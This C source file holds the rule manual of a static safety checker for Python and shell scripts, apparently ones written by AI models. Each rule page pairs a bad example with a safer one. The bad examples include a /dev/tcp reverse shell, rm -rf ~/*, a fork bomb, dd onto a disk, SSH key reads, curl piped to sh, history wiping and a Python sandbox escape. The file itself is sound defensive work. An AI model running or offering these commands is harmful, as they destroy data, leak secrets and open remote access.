#include "gate/report/manual.h"

#include <stddef.h>
#include <string.h>

#include "base/buf.h"
#include "policy/policy.h"

/* clang-format off */
static const struct cs_manual pages[CS_RULES] = {
	[CS_RULE_ENCODING] = {
		"The source is in an encoding that is not supported.\n",
		"Python decodes a source as its coding line says. Codecs such as\n"
		"utf-7 or unicode_escape decode the same bytes to other code than\n"
		"a person sees, so only UTF-8 and the Latin-1 family are accepted.\n",
		"# coding: utf-7\n"
		"x = 1\n",
		"x = 1\n"
	},
	[CS_RULE_CR] = {
		"A carriage return ends a comment, and code follows it.\n",
		"For Python the line ends there, but most editors and tools show\n"
		"the code as part of the comment.\n",
		NULL,
		NULL
	},
	[CS_RULE_NUL] = {
		"The source contains a NUL byte.\n",
		"Python refuses it, and tools that treat it as the end of the text\n"
		"miss what follows.\n",
		NULL,
		NULL
	},
	[CS_RULE_BIDI] = {
		"A control character displays the text in another order than Python\n"
		"reads it.\n",
		"What looks like a comment or a string may be code, and the other\n"
		"way round.\n",
		NULL,
		NULL
	},
	[CS_RULE_LIMIT] = {
		"The program could not be examined completely.\n",
		"It is too large, too deeply nested, too much work, or has too many\n"
		"findings. What was not examined does not pass, so this is an error\n"
		"whatever the policy says.\n",
		NULL,
		NULL
	},
	[CS_RULE_UNUSED] = {
		"A suppression comment suppresses nothing.\n",
		"It names no rule or the wrong one, or is in another logical line;\n"
		"if it stayed, it would hide a later finding.\n",
		"x = 1  # cs-gate: ignore[CSG301] no longer here\n",
		"x = 1\n"
	},
	[CS_RULE_SYNTAX] = {
		"The program is not valid Python. Message and position are those of\n"
		"CPython.\n",
		"It could not run, and nothing else can be said about it.\n",
		"if x = 1:\n"
		"    pass\n",
		"if x == 1:\n"
		"    pass\n"
	},
	[CS_RULE_COMPILE] = {
		"CPython's compiler rejects the program, although its grammar\n"
		"accepts it.\n",
		"It could not run: a return outside a function, a break outside a\n"
		"loop, a name that is both global and a parameter.\n",
		"return 1\n",
		"print(1)\n"
	},
	[CS_RULE_PYTHON2] = {
		"The program is written in Python 2.\n",
		"Python 3 does not run it.\n",
		"print \"a\"\n",
		"print(\"a\")\n"
	},
	[CS_RULE_NOT_PYTHON] = {
		"The text is more than a program: it has a Markdown fence, a\n"
		"prompt, or a notebook magic.\n",
		"Python would stop there. What surrounds the program has to be\n"
		"removed first, which cs-heal does.\n",
		"```python\n"
		"x = 1\n"
		"```\n",
		"x = 1\n"
	},
	[CS_RULE_BARE_EXCEPT] = {
		"A handler names no exception.\n",
		"It catches everything, even what ends the program and what nobody\n"
		"expected, so that a failure looks like a success.\n",
		"try:\n"
		"    n = int(s)\n"
		"except:\n"
		"    n = 0\n",
		"try:\n"
		"    n = int(s)\n"
		"except ValueError:\n"
		"    n = 0\n"
	},
	[CS_RULE_EXCEPT_EXCEPTION] = {
		"A handler catches Exception.\n",
		"It hides every failure: the expected one as well as a mistake in\n"
		"the line above.\n",
		"try:\n"
		"    n = int(s)\n"
		"except Exception:\n"
		"    n = 0\n",
		"try:\n"
		"    n = int(s)\n"
		"except ValueError:\n"
		"    n = 0\n"
	},
	[CS_RULE_EXCEPT_BASE] = {
		"A handler catches BaseException.\n",
		"It hides every failure, and the program's exit: SystemExit and\n"
		"KeyboardInterrupt.\n",
		"try:\n"
		"    n = int(s)\n"
		"except BaseException:\n"
		"    n = 0\n",
		"try:\n"
		"    n = int(s)\n"
		"except ValueError:\n"
		"    n = 0\n"
	},
	[CS_RULE_SUPPRESS] = {
		"contextlib.suppress() is used with Exception or BaseException.\n",
		"It is a broad handler by another name: whatever fails inside it\n"
		"goes unnoticed.\n",
		"import contextlib\n"
		"with contextlib.suppress(Exception):\n"
		"    n = int(s)\n",
		"import contextlib\n"
		"with contextlib.suppress(ValueError):\n"
		"    n = int(s)\n"
	},
	[CS_RULE_EVAL] = {
		"A string is evaluated as an expression.\n",
		"What it does is known only at run time, and whoever controls the\n"
		"string can do what the program can.\n",
		"x = eval(text)\n",
		"import ast\n"
		"x = ast.literal_eval(text)\n"
	},
	[CS_RULE_EXEC] = {
		"A string is run as code.\n",
		"What it does is known only at run time, and whoever controls the\n"
		"string can do what the program can.\n",
		"exec(\"x = \" + text)\n",
		"x = int(text)\n"
	},
	[CS_RULE_COMPILE_CALL] = {
		"A string is compiled.\n",
		"The resulting code cannot be examined here, and is meant to be\n"
		"run.\n",
		"c = compile(text, \"\", \"exec\")\n",
		"import ast\n"
		"tree = ast.parse(text)\n"
	},
	[CS_RULE_RUNNER] = {
		"A library module is given a string to run as code: code, timeit,\n"
		"cProfile, doctest, pdb, runpy, and breakpoint().\n",
		"It is exec() by another name. Timing a function that is passed as\n"
		"such is not a finding.\n",
		"import timeit\n"
		"timeit.timeit(\"f(1)\")\n",
		"import timeit\n"
		"timeit.timeit(lambda: f(1))\n"
	},
	[CS_RULE_EVALUATED] = {
		"Annotations that are strings and contain a call are evaluated.\n",
		"typing.get_type_hints() runs them as code.\n",
		"import typing\n"
		"def f(x: \"g()\"): ...\n"
		"typing.get_type_hints(f)\n",
		"def f(x: int): ...\n"
		"f.__annotations__\n"
	},
	[CS_RULE_OS_SYSTEM] = {
		"A command is given to a shell: os.system(), os.popen().\n",
		"A command can do whatever the user can, and a shell interprets\n"
		"each special character in it. The sandbox makes it fail in any\n"
		"case.\n",
		"import os\n"
		"os.system(\"ls\")\n",
		"import os\n"
		"print(os.listdir())\n"
	},
	[CS_RULE_SUBPROCESS] = {
		"Another program is started: everything in the module subprocess\n"
		"except its constants and exceptions.\n",
		"A program can do whatever the user can, and is not examined here.\n"
		"The sandbox makes it fail in any case.\n",
		"import subprocess\n"
		"subprocess.run([\"sort\", \"a\"])\n",
		"with open(\"a\") as f:\n"
		"    lines = sorted(f)\n"
	},
	[CS_RULE_OS_SPAWN] = {
		"A process is started or replaced: os.fork(), os.exec*(),\n"
		"os.spawn*().\n",
		"A program that is started this way is not examined here. The\n"
		"sandbox makes it fail in any case.\n",
		"import os\n"
		"os.execv(\"/bin/ls\", [\"ls\"])\n",
		"import os\n"
		"print(os.listdir())\n"
	},
	[CS_RULE_PROCESS] = {
		"A program is started by other means: pty, multiprocessing,\n"
		"webbrowser, asyncio's subprocesses.\n",
		"It amounts to the same as subprocess.\n",
		"import webbrowser\n"
		"webbrowser.open(\"a.html\")\n",
		"print(\"see a.html\")\n"
	},
	[CS_RULE_GADGET] = {
		"A library function is told by a string what to call.\n",
		"A logging configuration, for example, may name any function, which\n"
		"is then called.\n",
		"import logging.config\n"
		"logging.config.dictConfig({\"()\": \"os.system\"})\n",
		"import logging\n"
		"logging.basicConfig()\n"
	},
	[CS_RULE_DENIED_IMPORT] = {
		"A module is loaded without an import statement, or is one that the\n"
		"policy denies.\n",
		"importlib.machinery, zipimport and the like can load any file as a\n"
		"module. Which modules are denied is up to the policy (agent: os,\n"
		"subprocess, socket, ...).\n",
		"import importlib.machinery as m\n"
		"m.SourceFileLoader(\"a\", \"/tmp/a\")\n",
		"import json\n"
	},
	[CS_RULE_UNLISTED] = {
		"A module is imported that the policy does not allow.\n",
		"The policy strict has a list of modules that compute, and allows\n"
		"no others.\n",
		"import tempfile\n",
		"import math\n"
	},
	[CS_RULE_DYNAMIC_IMPORT] = {
		"A module is imported by a name that is known only at run time.\n",
		"Which module it is cannot be determined here, so it may be any.\n",
		"import importlib\n"
		"m = importlib.import_module(name)\n",
		"import json as m\n"
	},
	[CS_RULE_REFLECTION] = {
		"A module with forbidden members is passed on as a whole, or an\n"
		"attribute of it is accessed by a disguised name.\n",
		"What happens to it cannot be followed, so it may be any of its\n"
		"members.\n",
		"import os\n"
		"f = getattr(os, name)\n",
		"import os\n"
		"f = os.getcwd\n"
	},
	[CS_RULE_DUNDER] = {
		"An attribute that leads into the interpreter's internals is\n"
		"accessed on an object that is not the program's own.\n",
		"__globals__, __subclasses__ and the like reach every module and\n"
		"function that is loaded, whatever was imported.\n",
		"().__class__.__base__.__subclasses__()\n",
		"print(type(()).__name__)\n"
	},
	[CS_RULE_FRAME] = {
		"The frame of running code is accessed.\n",
		"f_globals and f_builtins hold the variables of the calling code,\n"
		"and whatever can be reached through them.\n",
		"try:\n"
		"    f()\n"
		"except ValueError as e:\n"
		"    e.__traceback__.tb_frame.f_globals\n",
		"try:\n"
		"    f()\n"
		"except ValueError as e:\n"
		"    print(e)\n"
	},
	[CS_RULE_BUILTINS] = {
		"__builtins__ is accessed as an attribute.\n",
		"It holds eval(), exec(), open() and __import__() under names that\n"
		"cannot be determined here.\n",
		"import json\n"
		"json.__builtins__\n",
		"print(len(\"a\"))\n"
	},
	[CS_RULE_CODE_OBJECT] = {
		"A function is made from a code object, or is given another one.\n",
		"The code that it then runs is not the code in the program's text.\n",
		"f.__code__ = g.__code__\n",
		"f = g\n"
	},
	[CS_RULE_OPEN_NAME] = {
		"An attribute is accessed by a name that is known only at run time.\n",
		"It may be any attribute. Only checked in strict.\n",
		"def f(o, name):\n"
		"    return getattr(o, name)\n",
		"def f(o):\n"
		"    return o.size\n"
	},
	[CS_RULE_SOCKET] = {
		"The network is used through a socket.\n",
		"What the program reads can leave the machine. The sandbox makes it\n"
		"fail in any case.\n",
		"import socket\n"
		"s = socket.socket()\n",
		"data = open(\"a.csv\").read()\n"
	},
	[CS_RULE_NETWORK] = {
		"The network is used through a client or server library, or a file\n"
		"reader is given a URL.\n",
		"What the program reads can leave the machine. The sandbox makes it\n"
		"fail in any case.\n",
		"import urllib.request\n"
		"urllib.request.urlopen(u)\n",
		"data = open(\"a.csv\").read()\n"
	},
	[CS_RULE_DELETE] = {
		"A file is deleted.\n",
		"In a sandbox the file disappears with the job in any case, so this\n"
		"is a warning in most policies.\n",
		"import os\n"
		"os.remove(\"a\")\n",
		"print(\"a is no longer needed\")\n"
	},
	[CS_RULE_OPEN] = {
		"A file is opened.\n",
		"strict lets a program compute, and do nothing else.\n",
		"open(\"a\")\n",
		"print(1)\n"
	},
	[CS_RULE_WRITTEN] = {
		"The program imports a file that it has written.\n",
		"This is exec() by way of a file: what it imports was not examined.\n",
		"with open(\"evil.py\", \"w\") as f:\n"
		"    f.write(text)\n"
		"import evil\n",
		"import json\n"
		"x = json.loads(text)\n"
	},
	[CS_RULE_BEYOND] = {
		"Something that reaches beyond the program is named, in a module\n"
		"that otherwise only computes.\n",
		"It reads or changes files, processes or settings of the system.\n"
		"Only checked in strict.\n",
		"import os\n"
		"os.listdir(\".\")\n",
		"import os\n"
		"os.path.join(\"a\", \"b\")\n"
	},
	[CS_RULE_NATIVE] = {
		"Native code is called: ctypes and the like, /proc/self/mem.\n",
		"It can do all that the process can, regardless of any rule of\n"
		"Python.\n",
		"import ctypes\n"
		"ctypes.CDLL(None)\n",
		"import struct\n"
		"struct.pack(\"i\", 1)\n"
	},
	[CS_RULE_UNPICKLE] = {
		"Data is read that can contain code: pickle.loads() and other\n"
		"readers of the same format.\n",
		"Whoever made the data decides what is called while it is read.\n",
		"import pickle\n"
		"x = pickle.loads(data)\n",
		"import json\n"
		"x = json.loads(data)\n"
	},
	[CS_RULE_MARSHAL] = {
		"Code is read with marshal.\n",
		"It reads code objects, which are not examined here.\n",
		"import marshal\n"
		"x = marshal.loads(data)\n",
		"import json\n"
		"x = json.loads(data)\n"
	},
	[CS_RULE_RM] = {
		"Everything below the root, a home or the working directory is\n"
		"deleted.\n",
		"What a system, a person or all the work here depends on is gone,\n"
		"and there is no way to undo it.\n",
		"rm -rf ~/*\n",
		"rm -rf ~/project/build\n"
	},
	[CS_RULE_DEVICE] = {
		"A disk, memory or another device is written to, or a file system\n"
		"is made on it.\n",
		"Whole file systems are overwritten while they are in use.\n",
		"dd if=image of=/dev/sda\n",
		"dd if=image of=disk.img\n"
	},
	[CS_RULE_PRIVILEGE] = {
		"A command runs as another user, or grants rights over the machine.\n",
		"A script that a model wrote needs no more rights than its own user\n"
		"has, and a set-user-ID program grants them to everybody.\n",
		"sudo make install\n",
		"make install PREFIX=~/.local\n"
	},
	[CS_RULE_PIPE_SHELL] = {
		"What was downloaded, or what another command prints, is run.\n",
		"Nobody has reviewed the text, and it can differ each time.\n",
		"curl -s https://example.com/install.sh | sh\n",
		"curl -s -o install.sh https://example.com/install.sh\n"
		"less install.sh\n"
	},
	[CS_RULE_SH_EVAL] = {
		"A string is run as a command: eval, or a shell's -c with a string\n"
		"that is not known.\n",
		"What is in a variable becomes code: a name that contains a\n"
		"semicolon is enough.\n",
		"eval \"$command\"\n",
		"\"${command[@]}\"\n"
	},
	[CS_RULE_FORK_BOMB] = {
		"A function starts itself twice and waits for neither.\n",
		"It fills the machine with processes until nothing else can start.\n",
		":() { : | : & }; :\n",
		NULL
	},
	[CS_RULE_GIT] = {
		"Work is discarded of which git has no other copy.\n",
		"A hard reset, a clean or a forced push can destroy what was never\n"
		"committed, or what others have pushed.\n",
		"git reset --hard HEAD~3\n",
		"git stash\n"
		"git switch -c try HEAD~3\n"
	},
	[CS_RULE_POWER] = {
		"The machine, or a service that it needs, is stopped.\n",
		"Whoever else works on it is stopped too.\n",
		"shutdown -h now\n",
		NULL
	},
	[CS_RULE_KILL] = {
		"All processes are killed, or some that belong to the system.\n",
		"kill -1 reaches every process that the user may signal, including\n"
		"the session itself.\n",
		"kill -9 -1\n",
		"kill \"$pid\"\n"
	},
	[CS_RULE_HIDDEN] = {
		"A command is written so that it cannot be read: as character\n"
		"codes, in pieces, or encoded.\n",
		"A well-meaning script has no reason to hide what it runs.\n",
		"$'\\x72\\x6d' -r build\n",
		"rm -r build\n"
	},
	[CS_RULE_SYSTEM_FILE] = {
		"A file of the system is written, moved or made accessible to all,\n"
		"or a kernel setting is changed.\n",
		"Other programs and users depend on it.\n",
		"echo \"127.0.0.1 example.com\" >> /etc/hosts\n",
		"echo \"127.0.0.1 example.com\" >> hosts\n"
	},
	[CS_RULE_REVERSE_SHELL] = {
		"A shell is attached to a network connection, or data is sent over\n"
		"one that is not a download.\n",
		"Whoever is at the other end then types the commands.\n",
		"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
		"curl -s https://example.com/data.json\n"
	},
	[CS_RULE_SECRET] = {
		"Keys, password files or the environment are read, or sent away.\n",
		"They give access to more than this machine.\n",
		"cat ~/.ssh/id_rsa\n",
		"cat ~/.ssh/id_rsa.pub\n"
	},
	[CS_RULE_PERSIST] = {
		"Something is arranged to run again after the job has ended.\n",
		"A job ends; a timer, a service or a line in a start-up file does\n"
		"not.\n",
		"crontab new.cron\n",
		"cp new.cron jobs/\n"
	},
	[CS_RULE_TRACKS] = {
		"A log or a history is removed or turned off.\n",
		"Nobody can see afterwards what was done.\n",
		"history -c\n",
		NULL
	},
	[CS_RULE_OTHER_CODE] = {
		"Code in Python, Perl, awk or another language, or an option of a\n"
		"tool, does what a command may not do.\n",
		"It makes no difference in which language it is done.\n",
		"perl -e 'system(\"rm -rf /\")'\n",
		"perl -e 'print(1 + 1)'\n"
	},
	[CS_RULE_OPEN_COMMAND] = {
		"What is run is known only at run time.\n",
		"A name from a variable or from the output of a command can be any\n"
		"command.\n",
		"\"$1\" --version\n",
		"gcc --version\n"
	},
};
/* clang-format on */

const struct cs_manual *
cs_manual_get(enum cs_rule_id id)
{
	return &pages[id];
}

/* Indent each line of a text. */
static void
put_moved(struct cs_buf *out, const char *text)
{
	while (*text != '\0') {
		const size_t n = strcspn(text, "\n");

		cs_buf_adds(out, "    ");
		cs_buf_add(out, text, n);
		cs_buf_addc(out, '\n');
		text += n + (text[n] == '\n');
	}
}

static void
put_part(struct cs_buf *out, const char *head, const char *text)
{
	if (text == NULL)
		return;
	cs_buf_addf(out, "\n%s\n\n", head);
	put_moved(out, text);
}

void
cs_manual_print(
    enum cs_rule_id id, const struct cs_policy *policy, struct cs_buf *out)
{
	const struct cs_rule *r = cs_rules_get(id);
	const struct cs_manual *m = &pages[id];

	cs_buf_addf(out, "%s %s\n\n", r->id, r->name);
	if (m->what != NULL)
		put_moved(out, m->what);
	put_part(out, "Why", m->why);
	put_part(out, "For instance", m->bad);
	put_part(out, "Better", m->good);
	if (r->hint != NULL) {
		cs_buf_adds(out, "\nWhat to do\n\n    ");
		cs_buf_adds(out, r->hint);
		cs_buf_addc(out, '\n');
	}
	cs_buf_addf(out, "\nUnder the policy %s: %s", cs_policy_name(policy),
	    cs_policy_severity_word(cs_policy_severity(policy, r->id)));
	if (r->cwe > 0)
		cs_buf_addf(out, "; CWE-%d", r->cwe);
	cs_buf_addc(out, '\n');
}
